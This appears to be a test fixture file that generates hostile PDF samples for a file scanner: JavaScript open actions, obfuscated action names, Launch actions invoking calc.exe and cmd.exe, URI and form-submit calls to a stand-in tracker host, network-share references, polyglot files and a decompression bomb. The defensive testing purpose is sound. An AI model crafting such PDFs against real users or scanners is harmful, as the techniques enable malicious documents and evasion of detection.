import { deflateSync } from 'node:zlib'
import { SENTINEL } from '../../src/platform/ports/scanner/port.ts'
import { flateStream, onePage, streamOf, writePackedPdf, writePdf } from './pdf-writer.ts'

const PLAIN = () => writePdf(onePage(flateStream('BT (A letter) Tj ET')))
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
/** Not the zlib of every run: made once, and unpacked until the bound is reached. */
const bomb = once(() => deflateSync(Buffer.alloc(120 * 1024 * 1024)))
export const TINY_ZIP = Buffer.concat([
  Buffer.from('PK\u0003\u0004\u0014\0\0\0\0\0', 'latin1'),
  Buffer.alloc(20),
  Buffer.from('PK\u0005\u0006', 'latin1'),
  Buffer.alloc(18),
])

function once<T>(make: () => T): () => T {
  let made: T | undefined
  return () => (made ??= make())
}

/** The first three objects of a page, and an object that must not be among them. */
const packedWith = (object: string) => [...onePage('').slice(0, 3).map(String), object]
const letter = flateStream('BT (A letter) Tj ET')

/** How scripts, programs and files come along with a PDF, and how they are hidden. */
const ACTIONS: (() => Buffer)[] = [
  () => writePdf(onePage(letter, { catalog: `/OpenAction ${SCRIPT}` })),
  () => writePdf(onePage(letter, { catalog: '/OpenAction 5 0 R', more: [SCRIPT] })),
  () => writePdf(onePage(letter, { catalog: '/AA << /WC 5 0 R >>', more: [SCRIPT] })),
  () => writePdf(onePage(letter, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' })),
  () => writePdf(onePage(letter, { more: ['<< /S /J#61vaScript /#4aS (1) >>'] })),
  () => writePdf(onePage(letter, { more: ['<< /S /#4A#61#76#61#53#63#72#69#70#74 /X 1 >>'] })),
  () => writePdf(onePage(letter, { more: ['<< /S /URI /#4a#53 (1) >>'] })),
  () => writePdf(onePage(letter, { more: ['<< /JS % here\n 9 0 R >>'] })),
  () => writePackedPdf(packedWith(SCRIPT), [letter]),
  () => writePackedPdf(packedWith('<< /X /URI /JS (1) >>'), [letter]),
  () => writePackedPdf(packedWith('<< /S /J#61vaScript >>'), [letter]),
  () =>
    writePackedPdf(packedWith(SCRIPT), [letter], { entries: '/X 1', pack: (content) => content }),
  () =>
    writePackedPdf(packedWith(SCRIPT), [letter], {
      entries: '/Filter [/ASCIIHexDecode /FlateDecode]',
      pack: (content) => Buffer.from(`${deflateSync(content).toString('hex')}>`),
    }),
  () =>
    writePackedPdf(packedWith(SCRIPT), [letter], {
      entries: '/Filter [/FlateDecode /FlateDecode]',
      pack: (content) => deflateSync(deflateSync(content)),
    }),
  () => writePackedPdf(packedWith(SCRIPT), [letter], { entries: '/Filter /LZWDecode' }),
  () => writePackedPdf(packedWith(SCRIPT), [letter], { entries: '/Filter /RunLengthDecode' }),
  // In an object inside a stream that never ends: whoever follows the table finds it.
  () => writePdf(onePage(letter, { more: ['<< >>\nstream\n', SCRIPT] })),
  () =>
    writePdf(
      onePage(letter, {
        more: [
          Buffer.concat([
            Buffer.from('<< /Length 9 >>\nstream\n7 0 obj\n'),
            flateStream(`8 0 ${SCRIPT}`, '/Type /ObjStm /N 1 /First 4'),
          ]),
        ],
      }),
    ),
  () => writePdf(onePage(letter, { more: ['<< /S /Launch /F (calc.exe) >>'] })),
  () => writePackedPdf(packedWith('<< /S /Launch /Win << /F (cmd.exe) >> >>'), [letter]),
  () => writePdf(onePage(letter, { catalog: '/AcroForm << /XFA 5 0 R >>' })),
  () => writePdf(onePage(letter, { more: ['<< /Subtype /RichMedia >>'] })),
  () => writePdf(onePage(letter, { more: ['<< /S /Rendition /JS 9 0 R >>'] })),
]

const ADDRESS = '<< /S /URI /URI (https://tracker.example/seen) >>'
const SHARE = '\\\\\\\\host\\\\share\\\\a.pdf'
const SUBMIT = '<< /S /SubmitForm /F (https://tracker.example/form) >>'
const inHex = (text: string) => Buffer.from(text, 'latin1').toString('hex')
const inUtf16 = (text: string) => `FEFF${Buffer.from(text, 'utf16le').swap16().toString('hex')}`

/** How a PDF opens an address, submits a form or reaches for a network share when it is shown. */
const REACHES_OUT: (() => Buffer)[] = [
  () => writePdf(onePage(letter, { catalog: `/OpenAction ${ADDRESS}` })),
  () => writePdf(onePage(letter, { catalog: '/OpenAction 5 0 R', more: [ADDRESS] })),
  () => writePdf(onePage(letter, { catalog: '/#4FpenAction 5 0 R', more: [ADDRESS] })),
  () =>
    writePdf(onePage(letter, { catalog: '/OpenAction % here\n 5 % there\n 0 R', more: [ADDRESS] })),
  () =>
    writePdf(
      onePage(letter, { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>` }),
    ),
  () =>
    writePdf(
      onePage(letter, {
        catalog: '/OpenAction 5 0 R',
        more: ['<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>', ADDRESS],
      }),
    ),
  // Two objects of one number: a viewer takes the one its table names.
  () =>
    Buffer.concat([
      writePdf(onePage(letter, { catalog: '/OpenAction 5 0 R', more: ['[3 0 R /Fit]'] })),
      Buffer.from(`5 0 obj\n${ADDRESS}\nendobj\n`),
      Buffer.from('xref\n0 0\ntrailer\n<< /Root 1 0 R >>\nstartxref\n18\n%%EOF\n'),
    ]),
  () => writePdf(onePage(letter, { catalog: `/AA << /WC ${ADDRESS} >>` })),
  () => writePdf(onePage(letter, { catalog: '/#41A 5 0 R', more: [`<< /O ${ADDRESS} >>`] })),
  () => writePackedPdf(packedWith(`<< /OpenAction ${ADDRESS} >>`), [letter]),
  () => writePackedPdf([...packedWith('<< /OpenAction 5 0 R >>'), ADDRESS], [letter]),
  () => writePackedPdf(packedWith(`<< /AA << /O ${ADDRESS} >> >>`), [letter]),
  () => writePackedPdf(packedWith('<< /#41#41 9 0 R >>'), [letter]),
  () => writePdf(onePage(letter, { more: [SUBMIT] })),
  () => writePdf(onePage(letter, { more: [SUBMIT.replace('/SubmitForm', '/#53ubmitForm')] })),
  () => writePackedPdf(packedWith(SUBMIT), [letter]),
  () => writePdf(onePage(letter, { more: ['<< /S /ImportData /F (a.fdf) >>'] })),
  () => writePdf(onePage(letter, { more: [`<< /S /GoToR /F (${SHARE}) /D [0 /Fit] >>`] })),
  () => writePackedPdf(packedWith('<< /S /GoTo#52 /F 9 0 R >>'), [letter]),
  () => writePdf(onePage(letter, { more: [`<< /Type /Filespec /F (${SHARE}) >>`] })),
  () =>
    writePdf(onePage(letter, { more: [`<< /Type /Filespec /UF <${inUtf16('\\\\host\\a')}> >>`] })),
  () => writePdf(onePage(letter, { more: [`<< /X <${inHex('\\\\host\\share')}> >>`] })),
  () => writePdf(onePage(letter, { more: ['<< /X (\\134\\134host\\134share) >>'] })),
  () => writePdf(onePage(letter, { more: ['<< /FS /URL /F (https://tracker.example/a) >>'] })),
  () => writePdf(onePage(letter, { more: [`(${SHARE})`] })),
  () => writePackedPdf(packedWith(`<< /Type /Filespec /#46 (${SHARE}) >>`), [letter]),
  () => writePackedPdf(packedWith(`<< /X <${inHex('file://host/share')}> >>`), [letter]),
  () => writePdf(onePage(streamOf('', '/F (https://tracker.example/content)'))),
  () => writePdf(onePage(streamOf('', '/F 5 0 R'), { more: ['(content.bin)'] })),
  () => writePdf(onePage(letter, { more: ['<< /S /URI /URI (file:///c:/a) >>'] })),
  // Between what only looks like the beginning and the end of a stream.
  () =>
    writePdf(
      onePage(letter, { more: [`<< /T (>> stream\n) /AA << /O ${ADDRESS} >> /X (endstream) >>`] }),
    ),
  () => writePdf(onePage(letter, { more: [`<< /T (% 9 0 obj\n) >>`, `<< /AA 5 0 R >>`] })),
  () =>
    writePdf(
      onePage(letter, { more: [streamOf(`9 0 obj\n<< /AA << /O ${ADDRESS} >> >>\nendobj`)] }),
    ),
  // What is packed is said far in front of it.
  () =>
    writePdf(
      onePage(letter, {
        more: [
          flateStream(
            `8 0 << /AA << /O ${ADDRESS} >> >>`,
            `/Type /ObjStm /N 1 /First 4${' '.repeat(5_000)}`,
          ),
        ],
      }),
    ),
]

const FILES_INSIDE: (() => Buffer)[] = [
  () => writePdf(onePage(letter, { more: [streamOf('MZ', '/Type /EmbeddedFile')] })),
  () => writePdf(onePage(letter, { catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
  () => writePdf(onePage(letter, { more: ['<< /Type /Filespec /EF << /F 9 0 R >> >>'] })),
  () => writePackedPdf(packedWith('<< /Type /Filespec /EF << /F 9 0 R >> >>'), [letter]),
  () => writePdf(onePage(letter, { more: ['<< /S /GoToE /T << /R /C >> >>'] })),
]

const LOCKED: (() => Buffer)[] = [
  () => writePdf(onePage(letter), { trailer: '/Encrypt 5 0 R' }),
  () => writePdf(onePage(letter), { trailer: '/Encrypt << /Filter /Standard /V 4 >>' }),
  () => writePdf(onePage(letter), { trailer: '/#45ncrypt 5 0 R' }),
]

const MORE_THAN_PDF: (() => Buffer)[] = [
  () => Buffer.concat([Buffer.from('MZ\u0090\0'), PLAIN()]),
  () => Buffer.concat([Buffer.from('\n'), PLAIN()]),
  () => Buffer.concat([Buffer.from('GIF89a'), PLAIN()]),
  () => Buffer.concat([Buffer.from('<html><script>1</script>'), PLAIN()]),
  () => Buffer.concat([PLAIN(), TINY_ZIP]),
  () => Buffer.concat([PLAIN(), Buffer.from('<html><script>alert(1)</script></html>')]),
  () => Buffer.concat([PLAIN(), Buffer.from('MZ\u0090\0and more')]),
  // An archive whose comment is the end of the PDF.
  () => writePdf(onePage(streamOf(TINY_ZIP))),
  () => writePdf(onePage(letter, { more: ['<< /T (<script>alert\\(1\\)</script>) >>'] })),
  () => writePdf([...onePage(letter), '% <html><body onload=alert(1)>\n<< >>']),
]

const BROKEN: (() => Buffer)[] = [
  () => PLAIN().subarray(0, -8),
  () => PLAIN().subarray(0, 60),
  () => Buffer.from('%PDF-1.7\n'),
  () => Buffer.from('%PDF-1.7\n%%EOF\n'),
  () => Buffer.from('%PDF-1.7\nstartxref\n999999\n%%EOF\n'),
  () => Buffer.from('%PDF-9.9\nxref\nstartxref\n9\n%%EOF\n'),
  () => Buffer.concat([Buffer.from('%PDF-1.4\n'), TINY_ZIP]),
]

const INFECTED: (() => Buffer)[] = [
  () => writePdf(onePage(streamOf(SENTINEL))),
  () => writePdf(onePage(letter, { more: [`<< /T (${SENTINEL}) >>`] })),
]

const BOMBS: (() => Buffer)[] = [
  () => writePdf(onePage(streamOf(bomb(), '/Filter /FlateDecode'))),
  () => writePdf(onePage(streamOf(bomb(), '/Filter [/FlateDecode]'))),
  () => writePackedPdf(packedWith('<< >>'), [letter], { pack: () => bomb() }),
]

/** By what they are a case of. */
export const hostilePdfs: Record<string, (() => Buffer)[]> = {
  'PDF that acts': ACTIONS,
  'PDF that reaches out': REACHES_OUT,
  'PDF with files inside': FILES_INSIDE,
  'encrypted PDF': LOCKED,
  'PDF that is more': MORE_THAN_PDF,
  'broken PDF': BROKEN,
  'infected PDF': INFECTED,
  'PDF bomb': BOMBS,
}
